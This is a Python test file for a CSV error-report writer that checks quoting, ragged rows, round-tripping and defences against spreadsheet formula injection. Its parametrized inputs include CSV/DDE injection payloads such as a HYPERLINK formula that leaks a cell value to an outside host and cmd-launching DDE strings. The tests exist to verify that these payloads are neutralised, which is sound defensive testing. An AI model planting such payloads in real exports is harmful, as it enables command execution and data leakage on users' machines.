"""The error report carries the rows as they were, and no spreadsheet runs anything in it."""

from __future__ import annotations

import csv
import io
import re
import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline_engine.domain.imports.csv.error_csv import (
    OWN_COLUMNS,
    ErrorCsv,
    guarded,
    is_report,
    restored,
    unguarded,
)
from tests.support.parsing import parse_file

CELLS = st.text(max_size=12) | st.text(alphabet="'=-+@1.,; \t\r\n\0\uff1da\"|", max_size=8)
FORMULA_STARTS = "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"


def _error(cells: list[str], **fields: Any) -> dict[str, Any]:
    return {"row": 3, "line": 5, "column": None, "code": "ragged", "message": "why", "cells": cells, **fields}


def _rows(columns: list[str], *errors: dict[str, Any]) -> list[list[str]]:
    report = ErrorCsv(columns)
    text = b"".join([report.header(), *map(report.line, errors)]).decode()
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_rows_stand_as_they_were_with_the_reason_behind_them() -> None:
    rows = _rows(["Deal Name", "Value"], _error(["Acme", 'two\r\nlines, "quoted"'], column="Value", code="too_long"))
    assert rows == [
        ["Deal Name", "Value", "_row", "_line", "_column", "_code", "_message"],
        ["Acme", 'two\r\nlines, "quoted"', "3", "5", "Value", "too_long", "why"],
    ]


def test_every_cell_is_quoted_and_lines_end_as_rfc_4180_says() -> None:
    assert ErrorCsv(["a"]).header() == b'"a","_row","_line","_column","_code","_message"\r\n'
    assert ErrorCsv(["a"]).line(_error(['x"y'])) == b'"x""y","3","5","","ragged","why"\r\n'


@pytest.mark.parametrize(
    ("cells", "expected"),
    [([], ["", "", ""]), (["1"], ["1", "", ""]), (["1", "2", "3", "4", "5"], ["1", "2", "3,4,5"])],
)
def test_ragged_rows_do_not_shift_our_columns(cells: list[str], expected: list[str]) -> None:
    header, row = _rows(["a", "b", "c"], _error(cells))
    assert row == [*expected, "3", "5", "", "ragged", "why"]
    assert len(header) == len(row)


@pytest.mark.covers("R-20")
@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x/?"&A1)',
        "=cmd|'/c calc'!A1",
        "=1+1",
        "+1+1",
        "+49 30 123",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "--5",
        "- 5",
        "-5e9",
        "-",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\0=1",
        "\tx",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        "'=1",
        "''=1",
        " =1",
        "\u00a0=1",
        "' '=1",
    ],
)
def test_what_looks_like_a_formula_is_guarded_and_comes_back(cell: str) -> None:
    assert guarded(cell) == "'" + cell
    assert restored(guarded(cell)) == cell
    header, row = _rows([cell], _error([cell], message=cell, column=cell))
    assert header[0] == row[0] == row[3] == row[5] == "'" + cell


@pytest.mark.covers("R-20")
@pytest.mark.parametrize("cell", ["-5", "-1,234.50", "-0.1", "5", "", "Acme", "a=b", "O'Brien", "'quoted'", ";=1", "'"])
def test_numbers_and_plain_text_stay(cell: str) -> None:
    assert guarded(cell) == cell
    assert restored(cell) == cell


@pytest.mark.covers("R-20")
@given(cell=CELLS)
def test_no_guarded_cell_begins_like_a_formula_and_all_come_back(cell: str) -> None:
    safe = guarded(cell)
    assert restored(safe) == cell
    assert not safe.startswith(tuple(FORMULA_STARTS)) or re.fullmatch(r"-[0-9.,]+", safe)


@given(columns=st.lists(CELLS, min_size=1, max_size=4), cells=st.lists(CELLS, max_size=6))
def test_the_report_reads_back_as_it_was_written(columns: list[str], cells: list[str]) -> None:
    header, row = _rows(columns, _error(cells))
    assert [restored(cell) for cell in header] == [*columns, *OWN_COLUMNS]
    whole = len(columns) - (len(cells) > len(columns))
    assert [restored(cell) for cell in row[:whole]] == [*cells, *[""] * len(columns)][:whole]


def test_a_hostile_cell_takes_linear_time() -> None:
    began = time.process_time()
    for cell in (
        "'" * 1_000_000,
        " " * 1_000_000,
        "-" + "1," * 500_000,
        "' " * 500_000 + "x",
        "-" + "1" * 1_000_000 + "x",
    ):
        assert restored(guarded(cell)) == cell
    assert time.process_time() - began < 1


def test_cells_that_a_row_has_too_many_of_stay_as_they_stood_in_the_file() -> None:
    line = ErrorCsv(["a", "b"], ";").line(_error(["1", "2,5", "x"]))
    assert line.startswith(b'"1","2,5;x",')


def test_a_report_is_known_by_its_columns() -> None:
    assert is_report(["'=a", *OWN_COLUMNS])
    assert unguarded(["'=a", *OWN_COLUMNS]) == ("=a", *OWN_COLUMNS)
    assert unguarded(["'=a", "_row"]) == ("'=a", "_row")


@pytest.mark.parametrize("cell", ["+49 30 1", "=1+1", "'=1", "-5", "two\nlines", "plain"])
async def test_a_report_uploaded_again_gives_the_cells_of_the_file(cell: str) -> None:
    report = ErrorCsv(["Name", "Phone"], ";")
    data = report.header() + report.line(_error(["A", cell]))
    parsed = await parse_file(data, {"Name": "name", "Phone": "contact_phone"})
    assert [row.cells[1] for row in parsed.rows] == [cell]


@pytest.mark.parametrize("options", [{}, {"has_header": False, "delimiter": ";", "encoding": "cp1252"}])
@pytest.mark.parametrize(("mark", "encoding"), [("", "utf-8"), ("\ufeff", "utf-8"), ("\ufeff", "utf-16-le")])
async def test_a_report_is_read_as_one_whatever_was_said_of_the_file(
    options: dict[str, Any], mark: str, encoding: str
) -> None:
    report = ErrorCsv(["1", "2"], ";")
    text = (report.header() + report.line(_error(["Müller", "7"]))).decode()
    parsed = await parse_file((mark + text).encode(encoding), {"1": "name", "2": "value"}, options)
    assert [row.cells[:3] for row in parsed.rows] == [["Müller", "7", "3"]]


async def test_a_report_that_a_spreadsheet_has_saved_with_semicolons_is_read_as_well() -> None:
    data = b"1;2;_row;_line;_column;_code;_message\r\nA;7,5;3;5;;ragged;why\r\n"
    parsed = await parse_file(data, {"1": "name", "2": "value"}, {"has_header": False})
    assert [row.cells[:3] for row in parsed.rows] == [["A", "7,5", "3"]]
